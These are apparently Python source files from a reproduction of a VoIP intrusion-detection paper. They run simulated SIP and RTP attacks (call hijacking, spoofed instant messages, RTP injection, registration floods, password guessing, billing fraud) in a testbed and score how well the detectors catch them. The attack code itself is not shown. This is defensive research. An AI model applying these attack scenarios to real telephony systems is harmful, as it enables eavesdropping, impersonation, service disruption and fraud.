    """Figure 7: forged re-INVITE steals A's outgoing media."""
    testbed, engine = _build(seed, monitoring_window=monitoring_window, link=link)
    attack = CallHijackAttack(testbed)
    testbed.register_all()
    testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.0 + talk_before)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="call-hijack",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["stolen_packets"] = attack.stolen_packets
    return result


def run_fake_im(
    seed: int = 7,
    spoof_source: bool = False,
    legit_messages: int = 2,
    observe_after: float = 1.0,
) -> ExperimentResult:
    """Figure 6: forged instant message impersonating B."""
    testbed, engine = _build(seed)
    attack = FakeImAttack(testbed, spoof_source=spoof_source)
    testbed.register_all()
    im_exchange(testbed, [f"legit message {i}" for i in range(legit_messages)])
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="fake-im",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["messages_at_a"] = list(testbed.phone_a.messages)
    return result


def run_rtp_attack(
    seed: int = 7,
    packets: int = 50,
    seq_jump_threshold: int = 100,
    observe_after: float = 2.0,
) -> ExperimentResult:
    """Figure 8: garbage datagrams into A's jitter buffer."""
    testbed, engine = _build(seed, seq_jump_threshold=seq_jump_threshold)
    attack = RtpAttack(testbed, packets=packets, seed=seed * 31 + 1)
    testbed.register_all()
    call = testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="rtp-attack",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["victim_call"] = call
    result.extras["playout_stats"] = call.rtp.playout.stats if call.rtp else None
    return result


def run_register_dos(
    seed: int = 7,
    requests: int = 15,
    interval: float = 0.1,
    observe_after: float = 3.0,
) -> ExperimentResult:
    """§3.3: REGISTER flood ignoring 401 challenges."""
    testbed, engine = _build(seed, vantage=None, require_auth=True)
    attack = RegisterDosAttack(testbed, requests=requests, interval=interval)
    testbed.register_all()
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    return ExperimentResult(
        name="register-dos",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )


def run_password_guess(
    seed: int = 7,
    wordlist_size: int = 10,
    observe_after: float = 6.0,
) -> ExperimentResult:
    """§3.3: digest brute-force with varying challenge responses."""
    from repro.attacks.password_guess import DEFAULT_WORDLIST

    testbed, engine = _build(seed, vantage=None, require_auth=True)
    attack = PasswordGuessAttack(testbed, wordlist=DEFAULT_WORDLIST[:wordlist_size])
    testbed.register_all()
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="password-guess",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["attempts"] = attack.attempts
    return result


def run_billing_fraud(
    seed: int = 7,
    observe_after: float = 3.0,
    with_benign_call: bool = True,
) -> ExperimentResult:
    """§3.2: the three-facet cross-protocol fraud."""
    testbed, engine = _build(seed, vantage=None, with_billing=True)
    attack = BillingFraudAttack(testbed)
    testbed.register_all()
    if with_benign_call:
        normal_call(testbed, talk_seconds=1.0)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="billing-fraud",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["billing_records"] = list(testbed.billing_db.records)
    return result


def run_rtcp_bye_attack(
    seed: int = 7,
    observe_after: float = 1.5,
) -> ExperimentResult:
    """§2.2 extension: forged RTCP BYE silencing the peer."""
    from repro.attacks.media_attacks import RtcpByeAttack

    testbed, engine = _build(seed)
    attack = RtcpByeAttack(testbed)
    testbed.register_all()
    call = testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="rtcp-bye-attack",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["victim_call"] = call
    return result


def run_ssrc_spoof(
    seed: int = 7,
    packets: int = 30,
    observe_after: float = 1.5,
) -> ExperimentResult:
    """§2.2 extension: SSRC impersonation injection."""
    from repro.attacks.media_attacks import SsrcSpoofAttack

    testbed, engine = _build(seed)
    attack = SsrcSpoofAttack(testbed, packets=packets)
    testbed.register_all()
    call = testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    injection = testbed.now()
    attack.launch_now()
    testbed.run_for(observe_after)
    result = ExperimentResult(
        name="ssrc-spoof",
        testbed=testbed,
        engine=engine,
        attack_report=attack.report,
        injection_time=injection,
    )
    result.extras["victim_call"] = call
    return result


# ---------------------------------------------------------------------------
# Benign runs (for P_f)
# ---------------------------------------------------------------------------

BENIGN_KINDS = (
    "call",
    "callee-hangup",
    "mobility",
    "im",
    "registration-churn",
)


def run_benign(
    kind: str = "call",
    seed: int = 7,
    monitoring_window: float = 0.5,
    link: LinkModel | None = None,
) -> ExperimentResult:
    """One attack-free scenario; any alert raised is a false alarm."""
    if kind not in BENIGN_KINDS:
        raise ValueError(f"unknown benign kind {kind!r}; pick from {BENIGN_KINDS}")
    testbed, engine = _build(
        seed,
        monitoring_window=monitoring_window,
        link=link,
        require_auth=kind == "registration-churn",
        with_cell_phone=kind == "mobility",
    )
    testbed.register_all()
    if kind == "call":
        normal_call(testbed, talk_seconds=2.0, caller_hangs_up=True)
    elif kind == "callee-hangup":
        normal_call(testbed, talk_seconds=2.0, caller_hangs_up=False)
    elif kind == "mobility":
        mobility_call(testbed)
    elif kind == "im":
        im_exchange(testbed, ["hi", "lunch at noon?", "bring the deck"])
    elif kind == "registration-churn":
        registration_churn(testbed, rounds=4)
    testbed.run_for(1.0)
    return ExperimentResult(name=f"benign-{kind}", testbed=testbed, engine=engine)
