"""Table 1 regeneration: the attack matrix with detection verdicts.

The paper's Table 1 lists, per attack: protocols involved, whether the
detection is cross-protocol, whether it is stateful, and the rule.  Our
extended matrix adds what the paper reports in prose: detection verdict,
detection delay, and the false-alarm check on the matching benign run.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.rules_library import (
    RULE_BYE_ATTACK,
    RULE_CALL_HIJACK,
    RULE_FAKE_IM,
    RULE_RTP_MALFORMED,
    RULE_RTP_SEQ,
    RULE_RTP_SOURCE,
)
from repro.experiments.harness import (
    ExperimentResult,
    run_benign,
    run_bye_attack,
    run_call_hijack,
    run_fake_im,
    run_rtp_attack,
)


@dataclass(slots=True)
class Table1Row:
    attack: str
    protocols: str
    cross_protocol: str
    stateful: str
    rule: str
    detected: bool
    detection_delay: float | None
    benign_false_alarms: int

    def cells(self) -> list:
        return [
            self.attack,
            self.protocols,
            self.cross_protocol,
            self.stateful,
            self.rule,
            "DETECTED" if self.detected else "MISSED",
            f"{self.detection_delay * 1000:.1f} ms" if self.detection_delay is not None else "-",
            self.benign_false_alarms,
        ]


TABLE1_HEADERS = [
    "Attack",
    "Protocols",
    "Cross-protocol?",
    "Stateful?",
    "Rule",
    "Verdict",
    "Delay",
    "FP (benign)",
]


def _rtp_detected(result: ExperimentResult) -> tuple[bool, float | None]:
    """The RTP attack trips any of the three media rules; take the earliest."""
    delays = [
        d
        for rule in (RULE_RTP_SEQ, RULE_RTP_SOURCE, RULE_RTP_MALFORMED)
        if (d := result.detection_delay(rule)) is not None
    ]
    return (bool(delays), min(delays) if delays else None)


def build_table1(seed: int = 7) -> list[Table1Row]:
    """Run all four attacks + paired benign runs; build the matrix."""
    rows: list[Table1Row] = []

    bye = run_bye_attack(seed=seed)
    benign_call = run_benign("callee-hangup", seed=seed)
    rows.append(
        Table1Row(
            attack="BYE attack",
            protocols="SIP, RTP",
            cross_protocol="yes: no RTP after BYE",
            stateful="yes: session teardown state",
            rule=RULE_BYE_ATTACK,
            detected=bye.detection_delay(RULE_BYE_ATTACK) is not None,
            detection_delay=bye.detection_delay(RULE_BYE_ATTACK),
            benign_false_alarms=len(benign_call.alerts),
        )
    )

    im = run_fake_im(seed=seed)
    benign_im = run_benign("im", seed=seed)
    rows.append(
        Table1Row(
            attack="Fake Instant Messaging",
            protocols="SIP, IP",
            cross_protocol="yes: source IP of SIP MESSAGE",
            stateful="yes: per-sender IP history",
            rule=RULE_FAKE_IM,
            detected=im.detection_delay(RULE_FAKE_IM) is not None,
            detection_delay=im.detection_delay(RULE_FAKE_IM),
            benign_false_alarms=len(benign_im.alerts),
        )
    )

    hijack = run_call_hijack(seed=seed)
    benign_mobility = run_benign("mobility", seed=seed)
    rows.append(
        Table1Row(
            attack="Call Hijacking",
            protocols="SIP, RTP",
            cross_protocol="yes: no RTP after REINVITE",
            stateful="yes: session redirect state",
            rule=RULE_CALL_HIJACK,
            detected=hijack.detection_delay(RULE_CALL_HIJACK) is not None,
            detection_delay=hijack.detection_delay(RULE_CALL_HIJACK),
            benign_false_alarms=len(benign_mobility.alerts),
        )
    )

    rtp = run_rtp_attack(seed=seed)
    benign_call2 = run_benign("call", seed=seed)
    detected, delay = _rtp_detected(rtp)
    rows.append(
        Table1Row(
            attack="RTP attack",
            protocols="RTP, IP",
            cross_protocol="yes: RTP source vs SDP",
            stateful="yes: sequence continuity",
            rule=f"{RULE_RTP_SEQ}/{RULE_RTP_SOURCE}/{RULE_RTP_MALFORMED}",
            detected=detected,
            detection_delay=delay,
            benign_false_alarms=len(benign_call2.alerts),
        )
    )
    return rows
