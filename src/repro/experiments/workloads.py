"""Workload generation: traffic traces for throughput/accuracy benches.

The engine-throughput and baseline-comparison benchmarks need sizeable,
realistic captures.  :func:`capture_workload` drives the testbed through
a configurable mix of calls, IMs and registration churn and returns the
IDS tap's trace, which can then be replayed through any engine
configuration (or written to a pcap) without re-simulating.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.sim.trace import Trace
from repro.voip.scenarios import im_exchange, normal_call, registration_churn
from repro.voip.testbed import Testbed, TestbedConfig


@dataclass(slots=True)
class WorkloadSpec:
    """Shape of a benign workload."""

    calls: int = 3
    call_seconds: float = 2.0
    ims: int = 4
    churn_rounds: int = 2
    require_auth: bool = True
    seed: int = 11


def capture_workload(spec: WorkloadSpec | None = None) -> Trace:
    """Run the workload and return the captured trace."""
    spec = spec if spec is not None else WorkloadSpec()
    testbed = Testbed(TestbedConfig(seed=spec.seed, require_auth=spec.require_auth))
    testbed.register_all()
    for i in range(spec.calls):
        normal_call(
            testbed,
            talk_seconds=spec.call_seconds,
            caller_hangs_up=(i % 2 == 0),
        )
    if spec.ims:
        im_exchange(testbed, [f"workload message {i}" for i in range(spec.ims)])
    if spec.churn_rounds:
        registration_churn(testbed, rounds=spec.churn_rounds)
    testbed.run_for(1.0)
    return testbed.ids_tap.trace


def capture_rtp_flood(
    seed: int = 9,
    packets: int = 2500,
    interval: float = 0.002,
    observe_after: float = 8.0,
) -> Trace:
    """A live call drowned in a dense garbage-RTP flood.

    This is the event-dense half of the dispatch benchmark's mixed
    workload: every inbound garbage packet produces a MalformedRtp
    event, which is the traffic profile where per-protocol generator
    tables and the trigger-event rule index pay for themselves.
    """
    from repro.attacks import RtpAttack

    testbed = Testbed(TestbedConfig(seed=seed))
    attack = RtpAttack(
        testbed, packets=packets, interval=interval, seed=seed * 31 + 1
    )
    testbed.register_all()
    testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    attack.launch_now()
    testbed.run_for(observe_after)
    return testbed.ids_tap.trace


def capture_ssrc_spoof_flood(
    seed: int = 35,
    packets: int = 3000,
    interval: float = 0.004,
) -> Trace:
    """A live call with a sustained SSRC-spoofing stream injected.

    Unlike the garbage flood, the spoofed packets decode as valid RTP,
    so each one exercises the full media analysis path (rogue source,
    sequence continuity, SSRC ownership) and typically yields several
    events — the heaviest per-packet regime the dispatch benchmark uses.
    """
    from repro.attacks.media_attacks import SsrcSpoofAttack

    testbed = Testbed(TestbedConfig(seed=seed))
    attack = SsrcSpoofAttack(testbed, packets=packets, interval=interval)
    testbed.register_all()
    testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    attack.launch_now()
    testbed.run_for(2.0 + packets * interval)
    return testbed.ids_tap.trace


def capture_attack_workload(seed: int = 13) -> tuple[Trace, float]:
    """A workload with a BYE attack embedded; returns (trace, t_attack)."""
    from repro.attacks import ByeAttack

    testbed = Testbed(TestbedConfig(seed=seed))
    attack = ByeAttack(testbed)
    testbed.register_all()
    normal_call(testbed, talk_seconds=1.0)
    testbed.phone_a.call(f"sip:bob@{testbed.proxy.domain}")
    testbed.run_for(1.5)
    t_attack = testbed.now()
    attack.launch_now()
    testbed.run_for(2.0)
    return testbed.ids_tap.trace, t_attack
