"""Detection-quality evaluation against workload ground truth (§4.3).

Takes a labeled trace from :mod:`repro.workload` and scores one or more
detection systems — the stateful SCIDIVE engine, the session-sharded
:class:`~repro.cluster.ScidiveCluster`, and the stateless Snort-like
baseline — against what actually happened:

* **detection** — an attack counts as detected when one of its
  *expected* rules fires between injection and the label's deadline;
* **attribution** — any alert whose rule is in the label's *accept*
  set inside that window belongs to the attack (session-lenient: the
  malformed-RTP trail links to no SIP session, so its alerts carry an
  empty session id);
* **false alarm** — every alert attributed to no attack.

The report mirrors the paper's Section 4.3 framing: per-attack missed
and false-alarm rates, precision/recall, detection-delay quantiles, and
a threshold sweep (ROC-style operating curve) for the rate-style rules
— where the stateless baseline's "multiple 4XX responses" strawman
visibly trades recall against drowning in benign auth churn.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field

from repro.baseline.snortlike import FourXXFloodRule, SnortLikeIds, default_packet_rules
from repro.core.alerts import Alert
from repro.core.engine import ScidiveEngine
from repro.core.rules_library import (
    RULE_REGISTER_DOS,
    RULE_RTP_MALFORMED,
    bye_attack_rule,
    call_hijack_rule,
    fake_im_rule,
    register_dos_rule,
    rtp_malformed_rule,
    rtp_seq_rule,
    rtp_source_rule,
)
from repro.core.rules import RuleSet
from repro.sim.trace import Trace
from repro.workload.labels import (
    ATTACK_BYE,
    ATTACK_REGISTER_DOS,
    ATTACK_REGISTER_FLOOD,
    ATTACK_RTP,
    ATTACK_RTP_FLOOD,
    GroundTruth,
    SessionLabel,
)

SYSTEM_ENGINE = "engine"
SYSTEM_CLUSTER = "cluster"
SYSTEM_BASELINE = "baseline"
DEFAULT_SYSTEMS: tuple[str, ...] = (SYSTEM_ENGINE, SYSTEM_CLUSTER, SYSTEM_BASELINE)

# What counts as the stateless baseline "detecting" each attack kind.
# Hijack and fake-IM have no entry: a per-packet IDS has no signature
# for them at all (the paper's core argument).
BASELINE_ACCEPT: dict[str, tuple[str, ...]] = {
    ATTACK_BYE: ("SNORT-BYE",),
    ATTACK_RTP: ("SNORT-MALFORMED", "SNORT-RTP-PT"),
    ATTACK_REGISTER_DOS: ("SNORT-4XX",),
    # Pressure labels (see repro.workload.labels): nothing expected, but
    # volumetric floods may legitimately trip the baseline's counters —
    # soak those alerts so they don't land in the false-alarm column.
    ATTACK_REGISTER_FLOOD: ("SNORT-4XX",),
    ATTACK_RTP_FLOOD: ("SNORT-MALFORMED", "SNORT-RTP-PT"),
}


def _quantile(values: list[float], q: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    index = min(len(ordered) - 1, int(q * len(ordered)))
    return ordered[index]


@dataclass(slots=True)
class AttackOutcome:
    """How one system fared against one attack label."""

    label: SessionLabel
    detected: bool
    detecting_rule: str = ""
    delay: float | None = None
    attributed_alerts: int = 0

    def as_dict(self) -> dict:
        return {
            "label_id": self.label.label_id,
            "kind": self.label.kind,
            "session": self.label.session,
            "detected": self.detected,
            "detecting_rule": self.detecting_rule,
            "delay": self.delay,
            "attributed_alerts": self.attributed_alerts,
        }


@dataclass(slots=True)
class KindQuality:
    """Per-attack-kind aggregate."""

    kind: str
    attacks: int = 0
    detected: int = 0
    delays: list[float] = field(default_factory=list)

    @property
    def missed(self) -> int:
        return self.attacks - self.detected

    @property
    def missed_rate(self) -> float:
        return self.missed / self.attacks if self.attacks else 0.0

    def as_dict(self) -> dict:
        return {
            "attacks": self.attacks,
            "detected": self.detected,
            "missed": self.missed,
            "missed_rate": self.missed_rate,
            "delay_p50": _quantile(self.delays, 0.50),
            "delay_p90": _quantile(self.delays, 0.90),
            "delay_max": max(self.delays) if self.delays else None,
        }


@dataclass(slots=True)
class SystemQuality:
    """One system's §4.3 scorecard on one labeled trace."""

    system: str
    outcomes: list[AttackOutcome] = field(default_factory=list)
    false_alarms: list[Alert] = field(default_factory=list)
    total_alerts: int = 0
    benign_sessions: int = 0
    runtime_seconds: float = 0.0

    @property
    def attacks(self) -> int:
        return len(self.outcomes)

    @property
    def detected(self) -> int:
        return sum(1 for o in self.outcomes if o.detected)

    @property
    def missed(self) -> int:
        return self.attacks - self.detected

    @property
    def recall(self) -> float:
        return self.detected / self.attacks if self.attacks else 1.0

    @property
    def precision(self) -> float:
        attributed = sum(o.attributed_alerts for o in self.outcomes)
        total = attributed + len(self.false_alarms)
        return attributed / total if total else 1.0

    @property
    def false_alarm_rate(self) -> float:
        """False alarms per benign session — the paper's per-session P_f."""
        return (
            len(self.false_alarms) / self.benign_sessions
            if self.benign_sessions
            else 0.0
        )

    def per_kind(self) -> dict[str, KindQuality]:
        kinds: dict[str, KindQuality] = {}
        for outcome in self.outcomes:
            kq = kinds.setdefault(outcome.label.kind, KindQuality(outcome.label.kind))
            kq.attacks += 1
            if outcome.detected:
                kq.detected += 1
                if outcome.delay is not None:
                    kq.delays.append(outcome.delay)
        return kinds

    def delays(self) -> list[float]:
        return [o.delay for o in self.outcomes if o.delay is not None]

    def as_dict(self) -> dict:
        delays = self.delays()
        return {
            "system": self.system,
            "attacks": self.attacks,
            "detected": self.detected,
            "missed": self.missed,
            "recall": self.recall,
            "precision": self.precision,
            "false_alarms": len(self.false_alarms),
            "false_alarm_rate": self.false_alarm_rate,
            "benign_sessions": self.benign_sessions,
            "total_alerts": self.total_alerts,
            "runtime_seconds": self.runtime_seconds,
            "delay_p50": _quantile(delays, 0.50),
            "delay_p90": _quantile(delays, 0.90),
            "delay_max": max(delays) if delays else None,
            "per_kind": {k: v.as_dict() for k, v in sorted(self.per_kind().items())},
            "outcomes": [o.as_dict() for o in self.outcomes],
        }


# -- attribution ------------------------------------------------------------


def _session_matches(alert_session: str, label_session: str) -> bool:
    # Malformed-RTP trails link to no SIP session, so RTP-003 alerts
    # (and every baseline alert) carry "" — match on window alone then.
    return (
        not alert_session or not label_session or alert_session == label_session
    )


def _in_window(alert: Alert, label: SessionLabel) -> bool:
    assert label.injection_time is not None and label.deadline is not None
    return label.injection_time <= alert.time <= label.deadline


def evaluate_alerts(
    system: str,
    alerts: list[Alert],
    truth: GroundTruth,
    accept_map: dict[str, tuple[str, ...]] | None = None,
    runtime_seconds: float = 0.0,
) -> SystemQuality:
    """Attribute ``alerts`` against ``truth`` and build the scorecard.

    ``accept_map`` overrides the labels' own rule contract (used for the
    baseline, whose rule ids the generator does not know about); when
    given, the *expected* set equals the accept set.
    """
    quality = SystemQuality(
        system=system,
        total_alerts=len(alerts),
        benign_sessions=len(truth.benign()),
        runtime_seconds=runtime_seconds,
    )
    attacks = truth.attacks()
    contracts: list[tuple[SessionLabel, tuple[str, ...], tuple[str, ...]]] = []
    for label in attacks:
        if accept_map is not None:
            accept = accept_map.get(label.kind, ())
            contracts.append((label, accept, accept))
        else:
            contracts.append((label, label.expected_rules, label.accept_rules))
    # Pressure labels (empty expected set — the flood kinds) attribute
    # *last*: a paper attack injected during a flood window must keep its
    # own alerts even though the flood's wide window would also match.
    contracts.sort(key=lambda contract: not contract[1])

    attributed: dict[int, list[Alert]] = {label.label_id: [] for label in attacks}
    for alert in alerts:
        owner = None
        for label, _expected, accept in contracts:
            if (
                alert.rule_id in accept
                and _in_window(alert, label)
                and _session_matches(alert.session, label.session)
            ):
                owner = label
                break
        if owner is None:
            quality.false_alarms.append(alert)
        else:
            attributed[owner.label_id].append(alert)

    for label, expected, _accept in contracts:
        if not expected:
            # Pressure label: no rule is contractually required to fire
            # on raw volume, so it is soaked above but never scored as a
            # detection (it would dilute recall with guaranteed misses).
            continue
        mine = attributed[label.label_id]
        hits = [a for a in mine if a.rule_id in expected]
        if hits:
            first = min(hits, key=lambda a: a.time)
            assert label.injection_time is not None
            quality.outcomes.append(
                AttackOutcome(
                    label=label,
                    detected=True,
                    detecting_rule=first.rule_id,
                    delay=first.time - label.injection_time,
                    attributed_alerts=len(mine),
                )
            )
        else:
            quality.outcomes.append(
                AttackOutcome(
                    label=label, detected=False, attributed_alerts=len(mine)
                )
            )
    return quality


# -- system runners ---------------------------------------------------------


def run_engine_alerts(trace: Trace) -> tuple[list[Alert], float]:
    engine = ScidiveEngine(vantage_ip=None)
    start = time.perf_counter()
    engine.process_trace(trace)
    return list(engine.alerts), time.perf_counter() - start


def run_cluster_alerts(
    trace: Trace,
    workers: int = 4,
    backend: str = "threads",
    overload: bool = False,
) -> tuple[list[Alert], float]:
    from repro.cluster import ScidiveCluster

    cluster = ScidiveCluster(
        workers=workers,
        backend=backend,
        vantage_ip=None,
        overload_enabled=overload,
    )
    start = time.perf_counter()
    result = cluster.process_trace(trace)
    return list(result.alerts), time.perf_counter() - start


def run_baseline_alerts(trace: Trace) -> tuple[list[Alert], float]:
    ids = SnortLikeIds(rules=default_packet_rules())
    start = time.perf_counter()
    ids.process_trace(trace)
    return list(ids.alerts), time.perf_counter() - start


# -- threshold sweeps (ROC-style operating curves) --------------------------


@dataclass(slots=True)
class SweepPoint:
    threshold: int
    detected: int
    attacks: int
    false_alarms: int
    false_alarm_rate: float

    @property
    def recall(self) -> float:
        return self.detected / self.attacks if self.attacks else 1.0

    def as_dict(self) -> dict:
        return {
            "threshold": self.threshold,
            "detected": self.detected,
            "attacks": self.attacks,
            "recall": self.recall,
            "false_alarms": self.false_alarms,
            "false_alarm_rate": self.false_alarm_rate,
        }


@dataclass(slots=True)
class SweepCurve:
    system: str
    rule_id: str
    attack_kind: str
    points: list[SweepPoint] = field(default_factory=list)

    def as_dict(self) -> dict:
        return {
            "system": self.system,
            "rule_id": self.rule_id,
            "attack_kind": self.attack_kind,
            "points": [p.as_dict() for p in self.points],
        }


def _engine_ruleset(rtp_threshold: int = 3, dos_threshold: int = 5) -> RuleSet:
    return RuleSet(
        rules=[
            bye_attack_rule(),
            call_hijack_rule(),
            fake_im_rule(),
            rtp_seq_rule(),
            rtp_source_rule(),
            rtp_malformed_rule(threshold=rtp_threshold),
            register_dos_rule(threshold=dos_threshold),
        ]
    )


def _sweep_engine_rule(
    trace: Trace,
    truth: GroundTruth,
    rule_id: str,
    attack_kind: str,
    thresholds: tuple[int, ...],
    build,
) -> SweepCurve:
    curve = SweepCurve(system=SYSTEM_ENGINE, rule_id=rule_id, attack_kind=attack_kind)
    labels = [label for label in truth.attacks() if label.kind == attack_kind]
    for threshold in thresholds:
        engine = ScidiveEngine(vantage_ip=None, ruleset=build(threshold))
        engine.process_trace(trace)
        alerts = [a for a in engine.alerts if a.rule_id == rule_id]
        detected = 0
        false_alarms = 0
        for alert in alerts:
            if any(
                _in_window(alert, label)
                and _session_matches(alert.session, label.session)
                for label in labels
            ):
                continue
            false_alarms += 1
        for label in labels:
            if any(
                _in_window(alert, label)
                and _session_matches(alert.session, label.session)
                for alert in alerts
            ):
                detected += 1
        benign = len(truth.benign())
        curve.points.append(
            SweepPoint(
                threshold=threshold,
                detected=detected,
                attacks=len(labels),
                false_alarms=false_alarms,
                false_alarm_rate=false_alarms / benign if benign else 0.0,
            )
        )
    return curve


def _sweep_baseline_4xx(
    trace: Trace, truth: GroundTruth, thresholds: tuple[int, ...]
) -> SweepCurve:
    curve = SweepCurve(
        system=SYSTEM_BASELINE, rule_id="SNORT-4XX", attack_kind=ATTACK_REGISTER_DOS
    )
    labels = [
        label for label in truth.attacks() if label.kind == ATTACK_REGISTER_DOS
    ]
    benign = len(truth.benign())
    for threshold in thresholds:
        rules = [
            FourXXFloodRule(threshold=threshold)
            if isinstance(rule, FourXXFloodRule)
            else rule
            for rule in default_packet_rules()
        ]
        ids = SnortLikeIds(rules=rules)
        ids.process_trace(trace)
        alerts = [a for a in ids.alerts if a.rule_id == "SNORT-4XX"]
        false_alarms = sum(
            1
            for alert in alerts
            if not any(_in_window(alert, label) for label in labels)
        )
        detected = sum(
            1
            for label in labels
            if any(_in_window(alert, label) for alert in alerts)
        )
        curve.points.append(
            SweepPoint(
                threshold=threshold,
                detected=detected,
                attacks=len(labels),
                false_alarms=false_alarms,
                false_alarm_rate=false_alarms / benign if benign else 0.0,
            )
        )
    return curve


def threshold_sweeps(trace: Trace, truth: GroundTruth) -> list[SweepCurve]:
    """Operating curves for the rate-style rules.

    The stateful engine's curves are flat at zero false alarms (its
    counters are scoped per source / per session), while the baseline's
    global 4XX counter trades recall against benign digest churn.
    """
    curves = [
        _sweep_engine_rule(
            trace, truth, RULE_RTP_MALFORMED, ATTACK_RTP, (1, 2, 3, 5),
            lambda t: _engine_ruleset(rtp_threshold=t),
        ),
        _sweep_baseline_4xx(trace, truth, (1, 2, 3, 5, 8)),
    ]
    if any(label.kind == ATTACK_REGISTER_DOS for label in truth.attacks()):
        curves.insert(
            1,
            _sweep_engine_rule(
                trace, truth, RULE_REGISTER_DOS, ATTACK_REGISTER_DOS, (2, 3, 5, 8),
                lambda t: _engine_ruleset(dos_threshold=t),
            ),
        )
    return curves


# -- top-level report -------------------------------------------------------


@dataclass(slots=True)
class QualityReport:
    """The full §4.3 detection-quality report for one labeled trace."""

    scenario: str
    seed: int
    frames: int
    duration: float
    attack_counts: dict[str, int]
    benign_sessions: int
    systems: dict[str, SystemQuality] = field(default_factory=dict)
    sweeps: list[SweepCurve] = field(default_factory=list)

    def as_dict(self) -> dict:
        return {
            "scenario": self.scenario,
            "seed": self.seed,
            "frames": self.frames,
            "duration": self.duration,
            "attack_counts": dict(sorted(self.attack_counts.items())),
            "benign_sessions": self.benign_sessions,
            "systems": {
                name: quality.as_dict()
                for name, quality in sorted(self.systems.items())
            },
            "sweeps": [curve.as_dict() for curve in self.sweeps],
        }

    def to_json(self) -> str:
        return json.dumps(self.as_dict(), indent=2, sort_keys=True)


def evaluate_workload(
    trace: Trace,
    truth: GroundTruth,
    systems: tuple[str, ...] = DEFAULT_SYSTEMS,
    workers: int = 4,
    cluster_backend: str = "threads",
    cluster_overload: bool = False,
    sweeps: bool = False,
) -> QualityReport:
    """Run the requested systems over a labeled trace and score each."""
    report = QualityReport(
        scenario=truth.scenario,
        seed=truth.seed,
        frames=len(trace),
        duration=trace.duration,
        attack_counts=truth.attack_counts(),
        benign_sessions=len(truth.benign()),
    )
    for system in systems:
        if system == SYSTEM_ENGINE:
            alerts, elapsed = run_engine_alerts(trace)
            report.systems[system] = evaluate_alerts(
                system, alerts, truth, runtime_seconds=elapsed
            )
        elif system == SYSTEM_CLUSTER:
            alerts, elapsed = run_cluster_alerts(
                trace,
                workers=workers,
                backend=cluster_backend,
                overload=cluster_overload,
            )
            report.systems[system] = evaluate_alerts(
                system, alerts, truth, runtime_seconds=elapsed
            )
        elif system == SYSTEM_BASELINE:
            alerts, elapsed = run_baseline_alerts(trace)
            report.systems[system] = evaluate_alerts(
                system,
                alerts,
                truth,
                accept_map=BASELINE_ACCEPT,
                runtime_seconds=elapsed,
            )
        else:
            raise ValueError(f"unknown system: {system}")
    if sweeps:
        report.sweeps = threshold_sweeps(trace, truth)
    return report


# -- rendering --------------------------------------------------------------


def format_quality_report(report: QualityReport) -> str:
    from repro.experiments.report import format_table

    lines: list[str] = []
    total_attacks = sum(report.attack_counts.values())
    lines.append(
        f"Workload {report.scenario!r} seed={report.seed}: "
        f"{report.frames} frames, {report.duration:.0f}s, "
        f"{report.benign_sessions} benign sessions, {total_attacks} attacks "
        f"({', '.join(f'{k}={v}' for k, v in sorted(report.attack_counts.items()))})"
    )
    rows = []
    for name, quality in sorted(report.systems.items()):
        delays = quality.delays()
        rows.append(
            [
                name,
                f"{quality.detected}/{quality.attacks}",
                quality.missed,
                len(quality.false_alarms),
                f"{quality.false_alarm_rate:.4f}",
                f"{quality.precision:.3f}",
                f"{quality.recall:.3f}",
                f"{_quantile(delays, 0.5):.3f}" if delays else "-",
                f"{_quantile(delays, 0.9):.3f}" if delays else "-",
                f"{quality.runtime_seconds:.2f}",
            ]
        )
    lines.append(
        format_table(
            [
                "system", "detected", "missed", "false-alarms", "fa-rate",
                "precision", "recall", "delay-p50", "delay-p90", "runtime-s",
            ],
            rows,
            title="Section 4.3 detection quality",
        )
    )
    for name, quality in sorted(report.systems.items()):
        kind_rows = [
            [
                kind,
                kq.attacks,
                kq.detected,
                kq.missed,
                f"{kq.missed_rate:.3f}",
                f"{_quantile(kq.delays, 0.5):.3f}" if kq.delays else "-",
            ]
            for kind, kq in sorted(quality.per_kind().items())
        ]
        lines.append(
            format_table(
                ["attack", "injected", "detected", "missed", "miss-rate", "delay-p50"],
                kind_rows,
                title=f"{name}: per-attack breakdown",
            )
        )
    for curve in report.sweeps:
        lines.append(
            format_table(
                ["threshold", "recall", "false-alarms", "fa-rate"],
                [
                    [
                        p.threshold,
                        f"{p.recall:.3f}",
                        p.false_alarms,
                        f"{p.false_alarm_rate:.4f}",
                    ]
                    for p in curve.points
                ],
                title=(
                    f"threshold sweep: {curve.system}/{curve.rule_id} "
                    f"vs {curve.attack_kind}"
                ),
            )
        )
